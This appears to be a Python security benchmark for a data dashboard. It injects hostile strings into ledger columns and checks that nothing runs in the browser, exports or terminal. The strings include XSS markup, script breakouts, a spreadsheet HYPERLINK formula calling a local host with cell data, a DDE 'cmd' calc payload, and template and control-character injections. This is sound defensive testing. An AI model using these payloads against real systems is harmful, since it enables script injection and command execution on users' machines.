"""Texts of ledgers that would be markup, script, formulas or commands: nowhere does one come alive.

A small street is built through the checker from ledgers whose every text column holds every kind of such a text. Then every
view is opened, every mark of it pointed at, and every export and every door's download is read.

python -m benchmarks.attack.injection [--quick]
"""

import csv
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import docx
import pandas as pd
import pypdf
from lxml import etree
from playwright.sync_api import Browser, Page, sync_playwright
from playwright.sync_api import TimeoutError as NotInTime
from pptx import Presentation

from benchmarks.attack import Line
from benchmarks.attack.calls import linli
from linli import briefing, contracts, demo, navigation, settings
from linli.components.panels import provenance
from linli.contracts import Field
from linli.ledgers import read_source
from linli.metrics import indicators
from linli.selection import Selection
from linli.text import labels, sheets, signs
from linli.warehouse import meanings, sqlfiles
from linli.warehouse.store import Reader, Store

# Each kind of text: without blanks, commas and semicolons, which would part the ids of a list.
_RUN = "window.__pwned=1"
KINDS: dict[str, Callable[[str], str]] = {
    "markup": lambda text: f"<img/src=x/onerror={_RUN}><x-pwned>{text}",
    "end of a script": lambda text: (
        f"</script></style></title></svg></textarea><script>{_RUN}</script><x-pwned>{text}"
    ),
    "attribute": lambda text: f"\"onmouseover=\"{_RUN}\"x='{text}'onpointermove='{_RUN}'",
    "script": lambda text: f'\'-{_RUN}//"-{_RUN}-"`${{{_RUN}}}`{text}',
    "link": lambda text: f'<b>{text}</b><a/href="javascript:{_RUN}">x</a>![x](http://127.0.0.1:9/y.png)',
    "formula": lambda text: f'=HYPERLINK("http://127.0.0.1:9/"&A1){text}',
    "command": lambda text: f"@SUM(1+1)*cmd|'/C_calc'!A0{text}",
    "plus": lambda text: f"+1+1{text}",
    "minus": lambda text: f"-1+1{text}",
    "full width": lambda text: f"＝1＋1{text}",
    "tab": lambda text: f"\t=1+1{text}",
    # But zero bytes: with these no CSV is read at all.
    "control": lambda text: f"{text}\x1b]0x\x07\x1b[31m\x0b\ufffe",
    "direction": lambda text: f"\u202e{text}\u2066\u200b\ufeff",
    "template": lambda text: f"#sys.inputs{{{{7*7}}}}{{%raw%}}{{value}}%s$1{text}",
    "long": lambda text: text + "长" * 120,
}
_CODES = ("markup", "command", "plus", "minus", "control", "direction", "long")  # = would end a part's name
_PATIENCE = 40_000  # milliseconds for a door to open
_LARGE = 10_000  # rows of a ledger that are kept
FOUND = """() => {
    const pages = [document, ...[...document.querySelectorAll("iframe")].map((frame) => frame.contentDocument)];
    return pages.filter(Boolean).flatMap((page) => [
        ...(page.defaultView?.__pwned ? ["ran"] : []),
        ...[...page.querySelectorAll('img[src="x"], x-pwned, [onmouseover], [onpointermove], [onerror], a[href^="javascript"]')]
            .map((element) => element.outerHTML.slice(0, 200)),
        ...[...page.querySelectorAll("script")].filter((element) => element.textContent.includes("__pwned=1</scr" + "ipt>"))
            .map(() => "script"),
    ]);
}"""
# Every mark is pointed at: drawn ones, those of plotly, those of the map in its frame.
POINTED = """async () => {
    const inside = (page) => [...page.querySelectorAll("svg *, tr, [data-door], [title]")];
    const frames = [...document.querySelectorAll("iframe")].map((frame) => frame.contentDocument).filter(Boolean);
    let marks = 0;
    for (const mark of [document, ...frames].flatMap(inside)) {
        const view = mark.ownerDocument.defaultView;
        for (const kind of ["pointermove", "pointerover", "mouseover", "mousemove", "mouseenter"]) {
            const Kind = kind.startsWith("pointer") ? view.PointerEvent : view.MouseEvent;
            mark.dispatchEvent(new Kind(kind, {bubbles: true, clientX: 9, clientY: 9}));
        }
        marks++;
    }
    for (const chart of document.querySelectorAll(".js-plotly-plot")) {
        for (const [curve, {x}] of (chart.data ?? []).entries()) {
            for (const point of (x ?? []).keys()) {
                try { window.Plotly.Fx.hover(chart, [{curveNumber: curve, pointNumber: point}]); marks++; } catch {}
            }
        }
    }
    for (const frame of document.querySelectorAll("iframe")) {
        const map = frame.contentWindow?.map;
        map?.eachLayer?.((layer) => { layer.openTooltip?.(); layer.openPopup?.(); marks++; });
    }
    await new Promise((done) => setTimeout(done, 150));
    return marks;
}"""


def kind_of(value: str, kinds: tuple[str, ...]) -> str:
    """Return the kind of text that stands for a value, the same wherever the value stands."""
    return kinds[zlib.crc32(value.encode()) % len(kinds)]


def hostile(field: Field, value: object) -> object:
    """Return a value of a text column as a text of some kind; codes of a closed list stay."""
    if not isinstance(value, str) or field.type != "string" or (field.values and not field.open_values):
        return value
    if field.name == "indicator":
        return value
    if field.is_list:
        return re.sub(r"[^\u3001\uff0c\uff1b,;\s]+", lambda one: _made(one[0], tuple(KINDS)), value)
    return _made(value, _CODES if field.values else tuple(KINDS))


def _made(value: str, kinds: tuple[str, ...]) -> str:
    return KINDS[kind_of(value, kinds)](value)


def write_ledgers(source: Path, demo_ledgers: Path) -> dict[tuple[str, str], set[str]]:
    """Write the ledgers of the demo street with a hostile text for each; return the kinds by ledger and column."""
    frames: dict[str, list[pd.DataFrame]] = {}
    for part in read_source(demo_ledgers, None):
        if part.ledger:
            frames.setdefault(part.ledger, []).append(part.frame)
    tried: dict[tuple[str, str], set[str]] = {}
    for ledger, parts in frames.items():
        contract = contracts.load_all()[ledger]
        frame = pd.concat(parts, ignore_index=True).tail(_LARGE)
        written = {}
        for field in contract.fields:
            column = frame[field.name]
            if field.type == "string":
                before = [None if pd.isna(value) else value for value in column]
                after = [hostile(field, value) for value in before]
                kinds = _CODES if field.values else tuple(KINDS)
                changed = {kind_of(str(a), kinds) for a, b in zip(before, after, strict=True) if a != b}
                if changed:
                    tried[ledger, field.name] = changed
                column = pd.Series(after, index=frame.index, dtype=object)
            written[field.title] = column
        pd.DataFrame(written).to_csv(source / f"{contract.title}.csv", index=False)
    geo = source / "geo"
    geo.mkdir()
    for path in (demo_ledgers / "geo").glob("*.geojson"):
        text = path.read_text(encoding="utf-8")
        for name in ("community_id", "compound_id", "name"):
            pattern = rf'("{name}": )"([^"]*)"'
            text = re.sub(pattern, lambda m: f"{m[1]}{json.dumps(_made(m[2], tuple(KINDS)))}", text)
        (geo / path.name).write_text(text, encoding="utf-8")
    return tried


# ---------------------------------------------------------------------------- in a browser


def _browse(
    store: Path, views: list[str], doors: int, browser: Browser | None = None
) -> tuple[int, list[str]]:
    """Open views, point at every mark and open doors; return how many marks there were and what came alive."""
    if browser is None:
        with sync_playwright() as playwright:
            path = os.environ.get("CHROMIUM") or shutil.which("chromium")
            return _browse(
                store, views, doors, playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
            )
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    call = [sys.executable, "-m", "linli", "serve", "--store", str(store), "--port", str(port)]
    server = subprocess.Popen(call, cwd=settings.ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    page = browser.new_page(viewport={"width": 1366, "height": 768}, locale="zh-CN")
    try:
        _wait(f"http://127.0.0.1:{port}/_stcore/health")
        page.set_default_timeout(60_000)
        page.add_init_script("localStorage.setItem('linli-visited', 'yes')")  # else the tour is a dialog too
        alive: list[str] = []
        page.on("dialog", lambda dialog: (alive.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda request: alive.extend(_away(request.url)))
        marks = sum(_look(page, f"http://127.0.0.1:{port}/{view}", view, doors, alive) for view in views)
        return marks, alive
    finally:
        page.close()
        server.terminate()
        server.wait(timeout=30)


def _away(url: str) -> list[str]:
    parts = urlsplit(url)
    at_home = parts.scheme in ("data", "blob", "about") or (parts.hostname == "127.0.0.1" and parts.port != 9)
    return [] if at_home and not parts.path.endswith("/x") else [f"request {url}"]


def _wait(address: str) -> None:
    deadline = time.monotonic() + 300
    while True:
        try:
            urllib.request.urlopen(address, timeout=2).read()  # noqa: S310 (own server)
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.5)
        else:
            return


def _settled(page: Page) -> None:
    page.locator('[data-testid="stApp"][data-test-script-state="notRunning"]').wait_for()
    page.wait_for_timeout(500)


def _look(page: Page, address: str, view: str, doors: int, alive: list[str]) -> int:
    page.goto(address)
    page.get_by_test_id("stMain").get_by_text(labels.text("filter.community")).first.wait_for()
    _settled(page)
    marks: int = page.evaluate(POINTED)
    alive += [f"{view}: {found}" for found in page.evaluate(FOUND)]
    buttons = page.locator("button.door[data-door]")
    for number in range(min(doors, buttons.count())):
        # A door that a menu or a closed panel hides does not open.
        button = buttons.nth(number)
        if not button.is_visible():
            continue
        button.evaluate("(button) => button.click()")
        try:
            page.get_by_role("dialog").wait_for(timeout=_PATIENCE)
        except NotInTime:
            alive.append(f"{view}, door {number}: does not open")
            continue
        _settled(page)
        marks += page.evaluate(POINTED)
        alive += [f"{view}, door {number}: {found}" for found in page.evaluate(FOUND)]
        page.keyboard.press("Escape")
        page.get_by_role("dialog").wait_for(state="detached")
    return marks


# ---------------------------------------------------------------------------- what is handed out


def _csv_faults(data: bytes) -> Iterator[str]:
    for cells in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for cell in cells:
            # A number is written as one; everything else that begins so is a formula.
            if cell.startswith(sheets.STARTS) and not re.fullmatch(r"-\d+(\.\d+)?(e[-+]?\d+)?", cell):
                yield f"formula {cell[:60]!r}"
            if signs.hides(cell):
                yield f"hidden signs {cell[:60]!r}"


def _package_faults(data: bytes) -> Iterator[str]:
    """Yield what lives in a DOCX, PPTX or XLSX, and in the workbooks within it."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            content = package.read(name)
            if name.endswith(".xlsx"):
                yield from _package_faults(content)
            if not name.endswith((".xml", ".rels")):
                continue
            etree.fromstring(content)  # raises where no program could open it
            text = content.decode("utf-8")
            text = text.replace('<w:fldSimple w:instr=" PAGE ">', "")  # the number of the page is a field
            if re.search(r"<f[ >]|<hyperlink|hlinkClick|<w:instrText|<w:fldSimple|ddeLink", text):
                yield f"{name}: a formula, a link or a field"
            if re.search(r'TargetMode="External"', text):
                yield f"{name}: a link outside"


def _pdf_faults(data: bytes) -> Iterator[str]:
    reader = pypdf.PdfReader(io.BytesIO(data))
    if {"/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles"} & set(reader.trailer["/Root"]):
        yield "a script"
    for page in reader.pages:
        for note in page.get("/Annots") or []:
            action = note.get_object().get("/A") or {}
            if action.get("/S") in ("/URI", "/JavaScript", "/Launch"):
                yield f"an action {action}"


def _safely(faults: Callable[[bytes], Iterator[str]], make: Callable[[], bytes]) -> list[str]:
    """Return what is wrong with a file, one that cannot be made or opened included."""
    try:
        return list(faults(make()))
    except Exception as error:  # whatever it is, nobody gets the file
        return [f"{type(error).__name__}: {error}"[:200]]


def _downloads(reader: Reader) -> Iterator[tuple[str, list[str]]]:
    """Yield every file that a reader can take away, by name, with what lives in it."""
    months = [row["month"] for row in reader.rows("month_list")]
    selection = Selection(None, None, months[-3], months[-1])

    class Chosen:
        """What a door reads of the filter bar."""

    chosen: Any = Chosen()
    chosen.selection = selection
    for name, about in indicators.catalogue().items():
        if indicators.missing(reader, name):
            continue
        behind = provenance._sheets(reader, chosen, about)
        for key, sheet in behind.items():
            yield (
                f"{name}-{key}.csv",
                _safely(_csv_faults, lambda sheet=sheet: sheets.csv(meanings.chinese(sheet.whole()))),
            )
        pairs = [("meaning", about.meaning)]
        yield (
            f"{name}.xlsx",
            _safely(_package_faults, lambda behind=behind, pairs=pairs: provenance._workbook(behind, pairs)),
        )
    known = {
        "month": months[-1],
        "start": months[-3],
        "end": months[-1],
        "community_ids": None,
        "compound_kinds": None,
    }
    for name, query in sqlfiles.load_all().items():
        if query.kind_folder == "views" and set(query.params) <= set(known):
            rows = reader.run(name, **{key: known[key] for key in query.params})
            yield f"{name}.csv", _safely(_csv_faults, lambda rows=rows: sheets.csv(meanings.chinese(rows)))
            yield (
                f"{name}.xlsx",
                _safely(_package_faults, lambda rows=rows: sheets.xlsx({"rows": meanings.chinese(rows)})),
            )
    first = reader.rows("communities_list")[0]["community_id"]
    for communities, is_masked in ((None, False), (None, True), ((first,), False)):
        brief = briefing.compose(
            reader, briefing.Ask(communities, reader.version.data_as_of, is_masked=is_masked)
        )
        for form, faults in (
            ("docx", _package_faults),
            ("pptx", _package_faults),
            ("xlsx", _package_faults),
            ("pdf", _pdf_faults),
            ("json", _json_faults),
        ):
            yield (
                f"brief {communities} {is_masked}.{form}",
                _safely(faults, lambda brief=brief, form=form: briefing.write(brief, form)),
            )
        opened = (docx.Document, "docx"), (Presentation, "pptx")
        for open_file, form in opened:
            open_file(io.BytesIO(briefing.write(brief, form)))


def _json_faults(data: bytes) -> Iterator[str]:
    if signs.hides(data.decode("utf-8")):
        yield "hidden signs"


def _terminal(source: Path, store: Path) -> list[str]:
    """Call what prints names; return what controls a terminal."""
    found = []
    for arguments in (
        ("check", str(source)),
        ("find", "小区", "--store", str(store)),
        ("show", "--all", "--store", str(store)),
        ("versions", "--store", str(store)),
    ):
        outcome = linli(*arguments)
        if signs.hides(outcome.out + outcome.err) or outcome.code is None or outcome.code > 1:
            found.append(f"{arguments[0]}: {outcome.code} {outcome.err[:100]}")
    return found


def run(quick: bool, ledgers: Path | None = None, browser: Browser | None = None) -> list[Line]:
    """Build the street and try everything; quick opens fewer views and one door each. Ledgers are those of a demo street."""
    with tempfile.TemporaryDirectory(prefix="linli-attack-") as folder:
        source, store = Path(folder, "source"), Path(folder, "store")
        source.mkdir()
        if ledgers is None:
            demo.generate(ledgers := Path(folder, "demo"))
        tried = write_ledgers(source, ledgers)
        outcome = linli("build", str(source), "--store", str(store))
        if outcome.code:
            return [Line("injections", 1, 1, (outcome.out[-1500:] + outcome.err,))]
        views = ["" if view == "overview" else view for names in navigation.VIEWS.values() for view in names]
        reader = Store(store).reader()
        compound, center = (
            reader.rows("compound_points", compound_ids=None)[0]["compound_id"],
            _center(reader),
        )
        views += [f"compound?compound={quote(compound)}", f"center?center_id={quote(center)}"]
        views += [f"find?q={quote(KINDS[kind]('小区'))}" for kind in ("markup", "link", "script")]
        chosen = ["", "coverage", "centers", "issues", "materials", views[-5]] if quick else views
        marks, alive = _browse(store, chosen, 1 if quick else 12, browser)
        kinds = sum(len(kinds) for kinds in tried.values())
        alive += _terminal(source, store)
        files = dict(_downloads(reader))
        wrong = tuple(f"{name}: {faults[0]}" for name, faults in files.items() if faults)
        return [
            Line(
                f"injections (columns × kinds), {marks:,} marks pointed at in {len(chosen)} views",
                kinds,
                len(alive),
                tuple(alive[:20]),
            ),
            Line("downloads", len(files), len(wrong), wrong[:20]),
        ]


def _center(reader: Reader) -> str:
    return str(reader.rows("center_names_list", community_ids=None, compound_kinds=None)[0]["center_id"])
